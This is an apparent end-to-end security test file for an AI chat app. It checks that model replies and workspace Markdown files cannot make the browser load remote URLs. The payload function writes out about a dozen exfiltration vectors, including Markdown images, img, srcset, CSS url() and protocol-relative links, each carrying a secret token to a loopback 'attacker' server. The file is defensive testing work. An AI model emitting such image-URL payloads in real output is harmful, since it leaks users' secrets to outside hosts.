/**
 * Nothing leaves the owner's browser without the owner: a model reply and a
 * workspace Markdown file that try every way to make the page load a URL on
 * another origin (Markdown images, <img>, srcset, <picture>, <video poster>,
 * style="background:url()", <link>, <table background>) render with ZERO
 * requests to that origin. Each remote image shows as a link naming its host;
 * only a click on it (the owner's choice) opens it, in a new tab, without a
 * Referer. The app's HTML and /api/* carry the CSP that would block such loads
 * anyway, and the app works under it (the chat's WebSocket, the Files view).
 * Its own `wrangler dev` with the real `openai` provider against a loopback fake.
 */
import { mkdtempSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { IncomingHttpHeaders, Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, inject, test } from "vitest";
import { WAIT, app, launch, newPage, screenshot } from "./browser";
import { startFakeOpenAI } from "./fake-openai";
import type { FakeOpenAI } from "./fake-openai";
import { sleep, startWrangler } from "./wrangler";
import type { Wrangler } from "./wrangler";

const DEV_USER = "leaks-user";
const SECRET = "s3cr3t-token";
// A 1×1 PNG, so an image that did load would render.
const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64");

/** Every way the payload tries to make the browser fetch from the attacker by itself. */
function payload(attacker: string, label: string): string {
  const u = (name: string) => `${attacker}/${label}-${name}?d=${SECRET}`;
  return [
    `Here is the report (${label}).`,
    "",
    `![status](${u("markdown")})`,
    "",
    `Inline ![s](${u("markdown-inline")}) image.`,
    "",
    `<img src="${u("img")}" alt="tracker">`,
    "",
    `<img src="data:image/png;base64,${PNG.toString("base64")}" srcset="${u("srcset")} 2x" alt="local dot">`,
    "",
    `<picture><source srcset="${u("source")}"><img src="${u("picture")}"></picture>`,
    "",
    `<video poster="${u("poster")}" src="${u("video")}"></video>`,
    "",
    `<p style="background:url(${u("style")})">styled paragraph</p>`,
    "",
    `<link rel="stylesheet" href="${u("link")}">`,
    "",
    `<table background="${u("table")}"><tr><td>cell</td></tr></table>`,
    "",
    `<IMG SRC="${u("upper")}">`,
    "",
    `<img src="//${new URL(attacker).host}/${label}-protocol-relative?d=${SECRET}">`,
    "",
    "The end."
  ].join("\n");
}

interface Attacker {
  origin: string;
  requests: Array<{ url: string; headers: IncomingHttpHeaders }>;
  server: Server;
}

async function startAttacker(): Promise<Attacker> {
  const requests: Attacker["requests"] = [];
  const server = createServer((req, res) => {
    requests.push({ url: req.url ?? "", headers: req.headers });
    res.writeHead(200, { "content-type": "image/png" }).end(PNG);
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  const address = server.address();
  if (!address || typeof address !== "object") throw new Error("attacker server has no port");
  return { origin: `http://127.0.0.1:${address.port}`, requests, server };
}

let attacker: Attacker;
let fake: FakeOpenAI | undefined;
let wrangler: Wrangler | undefined;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let errors: string[] = [];
/**
 * Loads the CSP refused, as Chromium reports them on the console: the renderer must not even try one.
 * (Reports about inline `style` attributes are expected: DOMPurify parses the payload in an inert
 * document that inherits the page's CSP, before the attributes are stripped; nothing loads from there.)
 */
const cspReports: string[] = [];
const persistTo = mkdtempSync(join(tmpdir(), "steward-leaks-"));

beforeAll(async () => {
  attacker = await startAttacker();
  fake = await startFakeOpenAI(() => ({ chunks: payload(attacker.origin, "reply").split(/(?<=\n)/), delayMs: 5 }));
  wrangler = await startWrangler({
    persistTo,
    vars: { DEV_USER, MODEL_PROVIDER: "openai", MODEL: "fake-model", MODEL_BASE_URL: fake.baseURL },
    devUser: DEV_USER
  });
  browser = await launch(inject("chromiumPath"));
  ({ context, page, errors } = await newPage(browser));
  page.on("console", (message) => {
    if (/Content.Security.Policy/i.test(message.text()) && !/^Applying inline style/.test(message.text())) cspReports.push(message.text());
  });
}, 180_000);

afterEach(async (ctx) => {
  await screenshot(page, ctx.task.name, "leaks-");
});

afterAll(async () => {
  await browser?.close();
  await wrangler?.stop();
  await fake?.close();
  await new Promise((done) => attacker?.server.close(done));
  rmSync(persistTo, { recursive: true, force: true });
});

const hostLabel = () => `🖼 image from ${new URL(attacker.origin).host}`;

/** Gives any load the page might start a moment, then checks nothing reached the attacker. */
async function expectNoRequests(where: string): Promise<void> {
  await sleep(1_500);
  expect(
    attacker.requests.map((r) => r.url),
    where
  ).toEqual([]);
}

/** What a rendered Markdown container holds that could load by itself. */
async function loaders(root: ReturnType<Page["locator"]>) {
  return root.evaluate((el) => ({
    remoteSrc: [...el.querySelectorAll("[src]")].map((e) => e.getAttribute("src") ?? "").filter((s) => !s.startsWith("data:")),
    srcset: el.querySelectorAll("[srcset]").length,
    style: el.querySelectorAll("[style]").length,
    poster: el.querySelectorAll("[poster], [background]").length,
    loading: el.querySelectorAll("link, video, audio, source, picture, iframe, object, embed").length
  }));
}

describe("remote content in model output and workspace files", () => {
  test("a model reply full of remote images renders with zero requests to their host, each shown as a link naming it", async () => {
    const ui = app(page);
    await page.goto(wrangler!.baseURL);
    await ui.send("summarise the report");
    const answer = await ui.reply();
    await expect.poll(() => answer.innerText(), WAIT).toContain("The end.");
    await expectNoRequests("model reply");

    const text = answer.locator(".message-text");
    expect(await loaders(text)).toEqual({ remoteSrc: [], srcset: 0, style: 0, poster: 0, loading: 0 });
    // The local (data:) image stays an image; its remote srcset is gone.
    expect(await text.locator('img[alt="local dot"]').count()).toBe(1);
    const links = text.getByRole("link", { name: hostLabel() });
    // markdown, markdown-inline, img, srcset, source, picture, poster/video, table, upper, protocol-relative
    expect(await links.count()).toBeGreaterThanOrEqual(8);
    const hrefs = await links.evaluateAll((as) => as.map((a) => a.getAttribute("href") ?? ""));
    expect(hrefs).toEqual(expect.arrayContaining([`${attacker.origin}/reply-markdown?d=${SECRET}`, `${attacker.origin}/reply-img?d=${SECRET}`]));
    for (const a of await links.all()) {
      expect(await a.getAttribute("target")).toBe("_blank");
      expect(await a.getAttribute("rel")).toContain("noopener");
      expect(await a.getAttribute("rel")).toContain("noreferrer");
    }
    expect(await text.innerText()).toContain("styled paragraph");
    // The renderer did not even try: a load the CSP blocked would show up here.
    expect(cspReports).toEqual([]);
  }, 90_000);

  test("a workspace Markdown file with the same content renders with zero requests too", async () => {
    const ui = app(page);
    await page.goto(`${wrangler!.baseURL}/#/files`);
    await page.getByRole("region", { name: "Workspace files" }).waitFor(WAIT);
    await page.locator("#upload-input").setInputFiles({ name: "report.md", mimeType: "text/markdown", buffer: Buffer.from(payload(attacker.origin, "file")) });
    const viewer = page.locator("article.viewer .viewer-markdown");
    await expect.poll(() => viewer.innerText().catch(() => ""), WAIT).toContain("The end.");
    await expectNoRequests("Markdown file");
    expect(await loaders(viewer)).toEqual({ remoteSrc: [], srcset: 0, style: 0, poster: 0, loading: 0 });
    expect(await viewer.getByRole("link", { name: hostLabel() }).count()).toBeGreaterThanOrEqual(8);
    expect(cspReports).toEqual([]);
    await ui.view("Chat");
  }, 60_000);

  test("only the owner's click opens a remote image: in a new tab, with no Referer", async () => {
    const link = app(page).assistantMessages().last().getByRole("link", { name: hostLabel() }).first();
    await link.waitFor(WAIT);
    const [opened] = await Promise.all([context.waitForEvent("page", WAIT), link.click()]);
    await opened.waitForLoadState("load").catch(() => undefined);
    expect(opened.url()).toBe(`${attacker.origin}/reply-markdown?d=${SECRET}`);
    await expect.poll(() => attacker.requests.map((r) => r.url), WAIT).toContain(`/reply-markdown?d=${SECRET}`);
    const clicked = attacker.requests.find((r) => r.url === `/reply-markdown?d=${SECRET}`);
    expect(clicked?.headers.referer).toBeUndefined();
    await opened.close();
    attacker.requests.length = 0;
  });

  test("the app's HTML and /api/* send the CSP, no-referrer and nosniff; the app works under them", async () => {
    const base = wrangler!.baseURL;
    const csp = (value: string | null) => {
      expect(value).toBeTruthy();
      const directives = Object.fromEntries(
        (value ?? "")
          .split(";")
          .map((d) => d.trim().split(/\s+/))
          .map(([name, ...rest]) => [name, rest.join(" ")])
      );
      return directives;
    };
    for (const path of ["/", "/some/app/route", "/api/me", "/api/nope"]) {
      const response = await fetch(`${base}${path}`);
      const directives = csp(response.headers.get("content-security-policy"));
      expect(directives, path).toMatchObject({
        "default-src": "'self'",
        "script-src": "'self'",
        "img-src": "'self' data: blob:",
        "connect-src": "'self'",
        "frame-ancestors": "'none'",
        "base-uri": "'none'",
        "object-src": "'none'",
        "form-action": "'self'"
      });
      expect(response.headers.get("referrer-policy"), path).toBe("no-referrer");
      expect(response.headers.get("x-content-type-options"), path).toBe("nosniff");
      await response.arrayBuffer();
    }
    // A workspace file keeps its own, stricter policy (no script at all, sandboxed).
    const file = await fetch(`${base}/api/files?path=${encodeURIComponent("/workspace/report.md")}`);
    expect(file.status).toBe(200);
    expect(file.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
    expect(file.headers.get("referrer-policy")).toBe("no-referrer");
    await file.arrayBuffer();

    // The page itself got the policy, and the chat (a same-origin WebSocket) still talks under it.
    const response = await page.goto(base);
    expect(response?.headers()["content-security-policy"]).toContain("connect-src 'self'");
    const ui = app(page);
    await ui.readyStatus().waitFor(WAIT);
    await ui.send("/run 6*7");
    const answer = await ui.reply();
    await expect.poll(() => answer.innerText(), WAIT).toContain("42");
    await expectNoRequests("after reload");
    expect(cspReports).toEqual([]);
    expect(errors).toEqual([]);
  }, 60_000);
});
